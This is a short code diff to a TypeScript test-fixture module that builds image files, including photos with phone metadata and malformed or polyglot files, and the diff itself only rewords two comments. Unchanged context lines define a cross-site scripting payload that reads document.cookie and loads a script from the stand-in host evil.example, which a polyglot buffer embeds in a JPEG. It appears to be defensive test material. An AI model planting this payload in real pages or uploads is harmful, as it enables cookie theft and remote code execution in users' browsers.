@@ -12,7 +12,7 @@ async function noise(width: number, height: number): Promise<Sharp> {
   return sharp(made).resize({ width, height, fit: 'fill', kernel: 'nearest' });
 }
 
-/** Returns a photo with the location and time that phones add. */
+/** Returns a photo with the location and model that phones add. */
 export async function photo(
   width: number = 640,
   height: number = 480,
@@ -119,7 +119,7 @@ export async function costlyFiles(): Promise<Record<string, Buffer>> {
 
 export const script = 'alert(document.cookie)//<script src=//evil.example/x.js></script>';
 
-/** Files that are no picture, or more than that. */
+/** Files that are not a picture, are incomplete, or contain something else too. */
 export async function oddFiles(): Promise<Record<string, Buffer>> {
   const jpeg = await photo();
   const commentary = Buffer.from(`*/=1;${script}/*`);
